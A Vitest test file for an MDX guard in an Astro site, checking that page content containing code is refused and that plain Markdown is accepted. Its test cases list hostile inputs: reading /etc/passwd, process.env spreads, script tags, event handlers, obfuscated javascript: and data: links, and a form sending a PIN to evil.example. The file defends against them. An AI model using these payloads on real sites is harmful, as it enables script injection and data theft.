import { satteri } from '@astrojs/markdown-satteri';
import { describe, expect, it } from 'vitest';
import { mdxGuard, schemeOf } from '../../src/lib/mdx-guard';

// The page MDX goes through the same compiler as in the build: Sätteri's MDX renderer with the guard.
const renderer = await satteri({ mdastPlugins: [mdxGuard()] }).createMdxRenderer?.(
  { syntaxHighlight: false, shikiConfig: {}, gfm: true, smartypants: true },
  { optimize: false, srcDir: new URL('../../src/', import.meta.url) },
);
const FILE = 'content/pages/en/hostile.mdx';

/** Compiles an MDX body; returns the compiled module's code, or the error message the build would print. */
async function compile(body: string): Promise<{ code?: string; error?: string }> {
  if (!renderer) throw new Error('Sätteri gave no MDX renderer');
  try {
    return { code: (await renderer.process(body, `${process.cwd()}/${FILE}`, {})).code };
  } catch (error) {
    return { error: (error as Error).message };
  }
}

// Each case is one hostile line after a heading; the message names the file, line 3 (or `at`), and what to do.
const refused: { name: string; line: string; says: RegExp; at?: number }[] = [
  {
    name: 'an import of node:fs',
    line: "import fs from 'node:fs'",
    says: /cannot import code or files\. Remove the line/,
  },
  {
    name: 'an export',
    line: 'export const secret = process.env',
    says: /cannot define code\. Remove the line; page settings belong in the frontmatter/,
  },
  {
    name: 'a JavaScript expression in its own paragraph',
    line: "{fs.readFileSync('/etc/passwd', 'utf-8')}",
    says: /`\{fs\.readFileSync.*\}` is code \(a JavaScript expression\).*write \\\{ or \\\}/,
  },
  {
    name: 'a JavaScript expression inside a sentence',
    line: 'Secret: {process.env.HOME}.',
    says: /`\{process\.env\.HOME\}` is code/,
  },
  {
    name: 'a raw <script>',
    line: '<script>alert(1)</script>',
    says: /`<script>` is not allowed: a page cannot run scripts/,
  },
  {
    name: 'an <iframe>',
    line: '<iframe src="https://example.com/"></iframe>',
    says: /`<iframe>` is not allowed: .*link to the address instead/,
  },
  {
    name: 'an <object>',
    line: '<object data="x.swf"></object>',
    says: /`<object>` is not allowed: a page cannot embed files/,
  },
  {
    name: 'an <embed>',
    line: '<embed src="x.swf" />',
    says: /`<embed>` is not allowed: a page cannot embed files/,
  },
  {
    name: 'a <style>',
    line: '<style>{`body { display: none }`}</style>',
    says: /`<style>` is not allowed: the site's stylesheet styles every page/,
  },
  {
    name: 'a <form>',
    line: '<form action="https://evil.example/"><input name="pin" /></form>',
    says: /`<form>` is not allowed: a page cannot send data anywhere/,
  },
  {
    name: 'an element not on the allow-list',
    line: '<div class="x">text</div>',
    says: /`<div>` is not an element a page may use\. Write Markdown instead, or use one of the site's components: <Unknown \/>/,
  },
  {
    name: 'a JSX <a> that would skip the link check',
    line: '<a href="page:about">about</a>',
    says: /`<a>` is not allowed: write the link in Markdown instead/,
  },
  { name: 'a fragment', line: '<>text</>', says: /`<>` is not an element a page may use/ },
  {
    name: 'an onclick attribute on an allowed component',
    line: 'Fact: <Unknown onclick="alert(1)" />',
    says: /`onclick` on `<Unknown>` is an event handler, which runs code\. Remove the attribute/,
  },
  {
    name: 'an ONLOAD attribute in capitals',
    line: '<Unknown ONLOAD="alert(1)" />',
    says: /`ONLOAD` on `<Unknown>` is an event handler/,
  },
  {
    name: 'an attribute the component does not take',
    line: '<Unknown title="x" />',
    says: /`<Unknown>` has no attribute `title`\. It takes none: remove it/,
  },
  {
    name: 'an attribute value that is an expression',
    line: '<Unknown title={globalThis.x} />',
    says: /`title=\{globalThis\.x\}` on `<Unknown>` is code.*title="…"/,
  },
  {
    name: 'a spread attribute',
    line: '<Unknown {...process.env} />',
    says: /`\{\.\.\.process\.env\}` on `<Unknown>` is code/,
  },
  {
    name: 'a javascript: Markdown link',
    line: '[click](javascript:alert(1))',
    says: /The link "javascript:alert\(1\)" uses `javascript:`, which can run code.*\[text\]\(page:about\)/,
  },
  {
    name: 'a javascript: link disguised with capitals, a tab and an entity',
    line: '[click](JaVa&#9;ScRiPt:alert(1))',
    says: /uses `javascript:`/,
  },
  {
    name: 'a vbscript: link in a reference definition',
    line: '[click][x]\n\n[x]: vbscript:msgbox',
    says: /The link reference \[x\] "vbscript:msgbox" uses `vbscript:`/,
    at: 5,
  },
  {
    name: 'a data: image',
    line: '![x](data:image/svg+xml;base64,PHN2Zz4=)',
    says: /The image "data:image\/svg\+xml;base64,PHN2Zz4=" uses `data:`/,
  },
  {
    name: 'a data: link with an HTML payload',
    line: '[x](data:text/html,<script>alert(1)</script>)',
    says: /uses `data:`/,
  },
  {
    name: 'a javascript: address hidden in character references of an attribute',
    line: '<Unknown href="&#106;avascript:alert(1)" />',
    says: /The address in `href` "javascript:alert\(1\)" uses `javascript:`/,
  },
];

describe('page MDX may not carry code', () => {
  it.each(refused)(
    'refuses $name, naming the file, the line and what to do',
    async ({ line, says, at = 3 }) => {
      const { code, error } = await compile(`# Title\n\n${line}\n`);
      expect(code).toBeUndefined();
      expect(error).toContain(`${FILE}: this page contains code or markup that pages may not have`);
      expect(error).toMatch(new RegExp(`${FILE}:${at}:\\d+: `));
      expect(error).toMatch(says);
    },
  );

  it('lists every problem of a file at once, each at its own line and column, in order', async () => {
    const { error } = await compile(
      [
        '# Title',
        '',
        "import fs from 'node:fs'",
        "import { env } from 'node:process'",
        '',
        'Text {1 + 1} and <span>x</span>.',
        '',
        '<script>alert(1)</script>',
      ].join('\n'),
    );
    const lines = error?.split('\n') ?? [];
    expect(lines[0]).toBe(
      `${FILE}: this page contains code or markup that pages may not have (5 problems). Fix each line below.`,
    );
    expect(lines.slice(1).map((l) => /^[^:]+:(\d+:\d+):/.exec(l)?.[1])).toEqual([
      '3:1',
      '4:1',
      '6:6',
      '6:18',
      '8:1',
    ]);
    expect(lines[2]).toContain("`import { env } from 'node:process'`");
    expect(lines[4]).toContain('`<span>` is not an element a page may use');
  });

  it("accepts Markdown, the site's link forms and the allow-listed components", async () => {
    const { code, error } = await compile(
      [
        '# Title',
        '',
        'A [page](page:about "About"), a [plan](plan:5#commitments), [a reference][r], [mail](mailto:a@b.lv),',
        'an [address](https://www.opengovpartnership.org/) and ![a picture](/images/x.png).',
        '',
        'The date is <Unknown />. Braces as text: \\{ and \\}.',
        '',
        '[r]: commitment:lv0001',
        '',
        '| a | b |',
        '| - | - |',
        '| 1 | 2 |',
      ].join('\n'),
    );
    expect(error).toBeUndefined();
    expect(code).toContain('Unknown');
    expect(code).toContain('page:about');
  });
});

describe('the scheme of an address is read as a browser reads it', () => {
  it.each([
    ['javascript:alert(1)', 'javascript'],
    ['  JAVASCRIPT:alert(1)', 'javascript'],
    ['java\nscript:alert(1)', 'javascript'],
    ['\u0001data:text/html,x', 'data'],
    ['https://example.com/a:b', 'https'],
    ['/path/with:colon', undefined],
    ['#anchor', undefined],
  ])('reads %j as %j', (url, scheme) => {
    expect(schemeOf(url)).toBe(scheme);
  });
});
